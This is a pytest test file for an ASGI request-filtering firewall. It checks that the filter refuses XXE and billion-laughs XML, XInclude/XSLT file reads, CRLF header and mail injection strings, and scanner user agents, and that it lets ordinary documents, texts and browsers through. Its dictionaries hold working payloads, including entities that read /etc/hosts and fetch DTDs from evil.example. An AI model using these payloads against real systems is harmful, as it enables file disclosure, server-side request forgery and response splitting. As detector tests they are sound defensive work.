"""External entities, line breaks for headers, and scanners are refused; documents, texts and browsers pass."""

from __future__ import annotations

import pytest

from asgi_guard.inspection.body import kind_of, values
from asgi_guard.inspection.limits import Limits
from tests.support.textbook import KINDS, blocks, blocks_header, blocks_name, blocks_path, is_refused, table

ENTITIES = {
    "a file": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hosts">]><r>&e;</r>',
    "a file of Windows": '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/boot.ini">]><r>&e;</r>',
    "a relative file": '<!DOCTYPE r [<!ENTITY e SYSTEM "secret.txt">]><r>&e;</r>',
    "a public name": '<!DOCTYPE r [<!ENTITY e PUBLIC "x" "file:///etc/hosts">]><r>&e;</r>',
    "an address": "<!DOCTYPE r [<!ENTITY e SYSTEM 'http://10.1.2.3/'>]><r>&e;</r>",
    "a filter of PHP": '<!DOCTYPE r [<!ENTITY e SYSTEM "php://filter/convert.base64-encode/resource=x">]><r>&e;</r>',
    "a command of PHP": '<!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]><r>&e;</r>',
    "a folder of Java": '<!DOCTYPE r [<!ENTITY e SYSTEM "netdoc:/etc/">]><r>&e;</r>',
    "an archive of Java": '<!DOCTYPE r [<!ENTITY e SYSTEM "jar:http://evil.example/a.jar!/b">]><r>&e;</r>',
    "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
    "a type from elsewhere": '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>',
    "a public type from a file": '<!DOCTYPE r PUBLIC "-//X//Y" "file:///etc/hosts"><r/>',
    "out of band": '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///x"><!ENTITY % d SYSTEM "http://a.example/"> %d;]><r/>',
    "an error": "<!DOCTYPE r [<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"file:///x\">'> %a;]><r/>",
    "laughs": '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><r>&c;</r>',
    "laughs of parameters": '<!DOCTYPE r [<!ENTITY % a "x"><!ENTITY % b "%a;%a;">%b;]><r/>',
    "many references": f'<!DOCTYPE r [<!ENTITY a "{"x" * 99}">]><r>{"&a;" * 30}</r>',
    "behind a comment": '<!-- <x> --><!DOCTYPE r [<!ENTITY e SYSTEM "file:///x">]><r>&e;</r>',
    "in another case": "<!doctype r [<!entity e system 'file:///x'>]><r>&e;</r>",
    "with line breaks": '<!DOCTYPE\nr\n[\n<!ENTITY\ne\nSYSTEM\n"file:///x"\n>\n]>\n<r>&e;</r>',
    "an inclusion": '<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include parse="text" href="/etc/hosts"/></r>',
    "a style sheet that reads": "<xsl:stylesheet><xsl:copy-of select=\"document('/etc/hosts')\"/></xsl:stylesheet>",
    "a style sheet with PHP": "<xsl:stylesheet xmlns:p='http://php.net/xsl'><xsl:value-of select='p:f()'/>",
    "a picture": '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///x">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>',
    "a call": '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///x">]><s:Envelope><s:Body>&e;</s:Body></s:Envelope>',
}
"""External entities and their like, by what they do."""

DOCUMENTS = {
    "a document": '<?xml version="1.0" encoding="UTF-8"?><order id="1"><item>tea</item></order>',
    "a document in UTF-16": '<?xml version="1.0" encoding="UTF-16"?><order/>',
    "a page": "<!DOCTYPE html><html><body>hello</body></html>",
    "an old page": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
    '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    "a list of properties": '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
    "a call": '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><f>1</f></s:Body></s:Envelope>',
    "a call of a method": "<methodCall><methodName>add</methodName><params/></methodCall>",
    "a feed": '<rss version="2.0"><channel><title>News &amp; more</title></channel></rss>',
    "a feed with a section": "<rss><channel><description><![CDATA[<b>bold</b> words]]></description></channel></rss>",
    "a map": '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/></svg>',
    "entities of the language": "<a>&lt;b&gt; &amp; &quot;c&quot; &#228;</a>",
    "a comment": "<!-- the system reads a public file --><a/>",
    "an instruction": '<?xml version="1.0"?><?word-processor keep?><a/>',
    "an element that includes": "<config><include>parts</include></config>",
    "names": '<a:b xmlns:a="urn:a" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="c"/>',
}
"""Documents that applications take."""

LINES = {
    "a cookie": "x\r\nSet-Cookie: sid=1",
    "a redirect": "/a\r\nLocation: http://evil.example/",
    "a line feed": "x\nSet-Cookie: sid=1",
    "a carriage return": "x\rSet-Cookie: sid=1",
    "encoded once more": "x%0d%0aSet-Cookie:%20sid=1",
    "encoded twice more": "x%250d%250aSet-Cookie:%20sid=1",
    "blanks before the header": "x\r\n Set-Cookie: sid=1",
    "a type": "x\r\nContent-Type: text/html\r\n\r\n<b>",
    "a length": "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<b>z",
    "another response": "x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>",
    "a policy": "x\r\nContent-Security-Policy: script-src *",
    "a filter's switch": "x\r\nX-XSS-Protection: 0",
    "another origin": "x\r\nAccess-Control-Allow-Origin: *",
    "another host": "x\r\nX-Forwarded-Host: evil.example",
    "a refresh": "x\r\nRefresh: 0;url=//evil.example",
    "a copy": "ann@example.com\r\nCc: bob@example.com",
    "a hidden copy": "ann@example.com\nBcc: bob@example.com",
    "a hidden copy behind a subject": "Hello\nbcc: bob@example.com",
    "another receiver": "ann@example.com\r\nTo: bob@example.com",
    "another subject": "ann@example.com\nSubject: you have won",
    "parts of a mail": "ann@example.com\r\nContent-Type: multipart/mixed; boundary=b",
    "a command of mail": "ann@example.com\r\nRCPT TO:<bob@example.com>",
    "another request": "x HTTP/1.1\r\nHost: evil.example",
    "a request behind": "x\r\nGET /admin HTTP/1.1\r\nHost: a",
    "a store's command": "x\r\nFLUSHALL\r\n",
}
"""Line breaks that begin a header, by what they do."""

TEXTS = {
    "a commit": "Fix the parser\n\nCc: Ann Example <ann@example.com>\nSigned-off-by: Bob <bob@example.com>",
    "a letter": "Dear Ann,\r\n\r\nthank you.\r\nSubject to change: the date.\r\n",
    "an address": "Ann Example\nExample Street 1\n12345 Berlin",
    "a list": "milk\nbread\r\nbutter",
    "notes": "Notes\nLocation: Berlin\nDate: Monday\nHost: Ann",
    "settings": "name = ann\nport = 80\nhost = localhost",
    "YAML": "services:\n  web:\n    image: example\n    expires: never",
    "a log": '192.0.2.1 - - "GET / HTTP/1.1" 200\n192.0.2.2 - - "GET /a HTTP/1.1" 404',
    "headers in a report": "The answer was:\n\nHTTP/1.1 200 OK\nContent-Type: text/html\n\nand then nothing",
    "a quoted mail": "On Monday Ann wrote:\n> To: all\n> From: Ann\n> hello",
    "addresses": "ann@example.com\nbob@example.com, cid@example.com",
    "a table": "a\tb\r\n1\t2\r\n",
    "a poem": "roses are red\nviolets are blue",
    "code": "def f():\n    return {'status': 1}\n",
    "a key": "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqh\n-----END PUBLIC KEY-----\n",
}
"""Texts with lines, in the body of a request."""

TOOLS = (
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/)",
    "gobuster/3.6",
    "feroxbuster/2.10.1",
    "Fuzz Faster U Fool v2.1.0",
    "Wfuzz/3.1.0",
    "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "DirBuster-1.0-RC1 (http://www.owasp.org)",
    "w3af.org",
    "Arachni/v1.5.1",
    "Mozilla/5.0 SF/2.10b skipfish",
    "Acunetix-Product",
    "OpenVAS 22.4",
    "dalfox/2",
    "commix/3.9",
    "Mozilla/4.0 (compatible; Netsparker)",
)

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "facebookexternalhit/1.1",
    "python-requests/2.32.3",
    "python-httpx/0.27",
    "curl/8.9.1",
    "Wget/1.24",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "PostmanRuntime/7.41.0",
    "kube-probe/1.30",
    "Prometheus/2.54.0",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "UptimeRobot/2.0",
)


def blocks_document(document: bytes, content_type: str, level: int) -> bool:
    """Tell whether a level refuses a request with this body."""
    given = content_type.encode()
    return is_refused(values(document, kind_of(given), given, Limits()), level)


@pytest.mark.parametrize("content_type", ["application/xml", "text/xml", "application/soap+xml", "text/plain", ""])
@pytest.mark.parametrize("document", table({"xxe": ENTITIES}))
def test_a_document_with_external_entities_is_refused_at_level_1(document: str, content_type: str) -> None:
    """Whatever the client calls it."""
    assert blocks_document(document.encode(), content_type, 1)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le", "utf-8-sig"])
def test_no_unicode_hides_an_entity(encoding: str) -> None:
    """Parsers of XML read them all."""
    assert blocks_document(ENTITIES["a file"].encode(encoding), "application/xml", 1)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("document", table({"xxe": ENTITIES}))
def test_such_a_document_in_a_parameter_is_refused_at_level_1(document: str, kind: str) -> None:
    """It is parsed there as well."""
    assert blocks(document, kind, 1)


@pytest.mark.parametrize("encoding", ["utf-7", "IBM037", "cp037", "ISO-2022-JP", "hz-gb-2312"])
def test_a_character_set_that_nobody_needs_is_refused_at_level_1(encoding: str) -> None:
    """No filter reads what stands in it."""
    assert blocks_document(f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode(), "application/xml", 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("document", table({"xml": DOCUMENTS}))
def test_a_document_passes(document: str, level: int) -> None:
    """A document type that is named is none that is read."""
    assert not blocks_document(document.encode(), "application/xml", level)


def test_a_document_with_definitions_is_refused_at_level_2() -> None:
    """Few applications take any."""
    document = b'<!DOCTYPE a [<!ENTITY company "Example">]><a>&company;</a>'

    assert not blocks_document(document, "application/xml", 1)
    assert blocks_document(document, "application/xml", 2)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table({"crlf": LINES}))
def test_a_line_for_a_header_is_refused_at_level_1(text: str, kind: str) -> None:
    """Behind what stands in a header: an address, a token, a subject."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", ["form", "json"])
@pytest.mark.parametrize("text", table({"lines": TEXTS}))
def test_a_text_of_lines_passes(text: str, kind: str, level: int) -> None:
    """Also one that speaks of mails, of requests and of their headers."""
    assert not blocks(text, kind, level)


def test_a_line_break_in_a_name_a_header_or_a_path_is_refused_at_level_1() -> None:
    """No line ends there."""
    assert blocks_name("x\r\nSet-Cookie: a=b", "query", 1)
    assert blocks_header("x-name", "x%0d%0aSet-Cookie: a=b", 1)
    assert blocks_path("/a%0d%0aSet-Cookie:%20a=b", 1)
    assert blocks_path("/a%0ab", 1)
    assert not blocks_path("/a%0a", 1)


@pytest.mark.parametrize("agent", TOOLS)
def test_a_scanner_is_refused_at_level_1(agent: str) -> None:
    """By the name that it gives itself."""
    assert blocks_header("user-agent", agent, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("agent", AGENTS)
def test_browsers_crawlers_and_libraries_pass(agent: str, level: int) -> None:
    """They have other things to do than to look for holes."""
    assert not blocks_header("user-agent", agent, level)


def test_programs_are_refused_at_level_3() -> None:
    """Where only people are expected."""
    assert blocks_header("user-agent", "curl/8.9.1", 3)
